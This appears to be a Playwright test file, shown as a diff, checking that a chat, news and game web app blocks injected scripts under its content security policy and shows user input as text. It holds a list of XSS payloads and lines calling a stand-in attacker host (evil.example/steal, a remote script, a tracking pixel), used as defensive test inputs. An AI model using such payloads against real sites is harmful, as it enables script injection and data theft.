@@ -1,0 +1,175 @@
+// What a page does not let happen: code that is not the app's, and text of people
+// that is taken for anything but text.
+
+import type { Page } from "@playwright/test";
+import { Chat } from "./chat";
+import { everywhere, expect, test } from "./fixtures";
+
+declare global {
+  interface Window {
+    /** Directives that something has offended against. */
+    violations: string[];
+    /** Set by code that must not run. */
+    ran?: string;
+  }
+}
+
+/** Notes from now on, on every page that is loaded, what offends against its policy. */
+async function watch(page: Page): Promise<void> {
+  await page.context().addInitScript(() => {
+    window.violations = [];
+    document.addEventListener("securitypolicyviolation", (event) => {
+      window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
+    });
+  });
+  await page.reload();
+}
+
+const violations = (page: Page) => page.evaluate(() => window.violations);
+const ran = (page: Page) => page.evaluate(() => window.ran);
+
+/** What people might write. Each one sets window.ran if it is taken for code. */
+const hostile = [
+  `<img src=x onerror="window.ran='img'">`,
+  `<script>window.ran='script'</script>`,
+  `"><svg onload=window.ran='svg'>`,
+  `javascript:window.ran='url'`,
+  `{{constructor.constructor("window.ran='template'")()}}`,
+  `\u202Egnp.exe\u202C \u2066isolated`,
+  "w".repeat(180),
+];
+
+/** Nothing of what people wrote has become an element, a link or a place wider than the page. */
+async function expectText(page: Page): Promise<void> {
+  const found = await page.evaluate(() => ({
+    elements: [...document.querySelectorAll("img, iframe, object, embed, script:not([src]), svg[onload], a[href^='javascript:']")].map((e) => e.outerHTML),
+    sideways: document.documentElement.scrollWidth - document.documentElement.clientWidth,
+    ran: window.ran,
+  }));
+  expect(found).toEqual({ elements: [], sideways: 0, ran: undefined });
+}
+
+test("no page offends against its own policy", everywhere, async ({ server, visit }) => {
+  const page = await visit(server.url);
+  await watch(page);
+  const chat = await new Chat(page).join("Ada");
+  await chat.said("Hello");
+  for (const path of ["/chat/general", "/game/arena", "/news", "/nowhere", "/"]) {
+    await page.goto(server.url + path);
+    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+    if (path !== "/nowhere") await expect(page.getByRole("status", { name: /^Connection/ }).first()).toHaveText("Connected");
+    expect(await violations(page), path).toEqual([]);
+  }
+});
+
+test("code that gets into the page does not run", everywhere, async ({ server, browser }) => {
+  const context = await browser.newContext(); // not visit: what is refused would be a fault of the page's
+  const page = await context.newPage();
+  await page.goto(server.url);
+  await watch(page);
+  await page.evaluate(() => {
+    const script = document.createElement("script");
+    try {
+      script.textContent = "window.ran = 'inline script'";
+    } catch {
+      // Trusted types already forbid that.
+      script.append(document.createTextNode("window.ran = 'inline script'"));
+    }
+    document.body.append(script);
+    for (const src of ["data:text/javascript,window.ran='data'", "https://evil.example/x.js"]) {
+      const from = document.createElement("script");
+      try {
+        from.src = src;
+      } catch {
+        // The same.
+      }
+      document.body.append(from);
+    }
+    const button = document.createElement("button");
+    try {
+      button.setAttribute("onclick", "window.ran = 'handler'");
+    } catch {
+      // The same.
+    }
+    document.body.append(button);
+    button.click();
+    const link = document.createElement("a");
+    link.href = "javascript:window.ran = 'link'";
+    document.body.append(link);
+    link.click();
+    try {
+      document.body.insertAdjacentHTML("beforeend", `<img src=x onerror="window.ran='img'">`);
+    } catch {
+      // The same.
+    }
+    const style = document.createElement("style");
+    style.textContent = "body { background: url(https://evil.example/pixel) }";
+    document.head.append(style);
+  });
+  const refused = await page.evaluate(async () => {
+    const names: string[] = [];
+    await fetch("https://evil.example/steal").catch(() => names.push("fetch"));
+    await new Promise((resolve) => setTimeout(resolve)); // what was clicked has had its turn
+    try {
+      // Now that the debugger, which may do so, is not on the stack.
+      // oxlint-disable-next-line no-eval -- it is what must fail
+      (0, eval)("window.ran = 'eval'");
+    } catch {
+      names.push("eval");
+    }
+    return names;
+  });
+  expect(refused).toEqual(["fetch", "eval"]);
+  expect(await ran(page)).toBeUndefined();
+  const offended = (await violations(page)).map((text) => text.split(" ")[0]);
+  expect(offended).toEqual(expect.arrayContaining(["style-src-elem", "connect-src"]));
+  // Where types are known, a script is refused by its type before the policy for scripts sees it.
+  expect(offended.filter((name) => /^(require-trusted-types-for|script-src)/.test(name!)).length).toBeGreaterThanOrEqual(5);
+  await context.close();
+});
+
+test("what people write in the chat is text", async ({ server, visit }) => {
+  const name = hostile[0]!.slice(0, 32);
+  const mallory = await new Chat(await visit(`${server.url}/chat/general`)).join(name);
+  const ada = await new Chat(await visit(`${server.url}/chat/general`)).join("Ada");
+  await watch(ada.page);
+  await ada.connected();
+  for (const text of hostile) await mallory.said(text);
+  await expect(ada.texts).toHaveText(hostile);
+  await expect(ada.people.filter({ hasText: name })).toHaveCount(1);
+  await expectText(ada.page);
+  expect(await violations(ada.page)).toEqual([]);
+});
+
+test("what people write in the news and in the game is text", async ({ server, visit }) => {
+  const page = await visit(`${server.url}/news`);
+  await watch(page);
+  await page.getByRole("textbox", { name: "Category" }).fill(hostile[0]!);
+  for (const text of hostile) {
+    await page.getByRole("textbox", { name: "Article" }).fill(text);
+    await page.getByRole("button", { name: "Publish" }).click();
+    await expect(page.getByRole("region", { name: "You", exact: true }).getByRole("article").filter({ hasText: text.slice(0, 20) }).first()).toBeVisible();
+  }
+  await expectText(page);
+  expect(await violations(page)).toEqual([]);
+
+  const game = await visit(`${server.url}/game/arena`, { session: { "troupe.player": hostile[0] } });
+  await watch(game);
+  await expect(game.getByRole("region", { name: "Players" }).getByRole("listitem")).toHaveCount(1);
+  await expectText(game);
+  expect(await violations(game)).toEqual([]);
+});
+
+test("a room's name in the address is text", async ({ server, visit }) => {
+  for (const name of hostile) {
+    const page = await visit(`${server.url}/chat/${encodeURIComponent(name.slice(0, 60))}`);
+    await watch(page);
+    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+    await expectText(page);
+    expect(await violations(page), name).toEqual([]);
+    await page.close();
+  }
+  const page = await visit(`${server.url}/nowhere/${encodeURIComponent(hostile[0]!)}?next=${encodeURIComponent(hostile[3]!)}#${encodeURIComponent(hostile[2]!)}`);
+  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+  await expectText(page);
+});
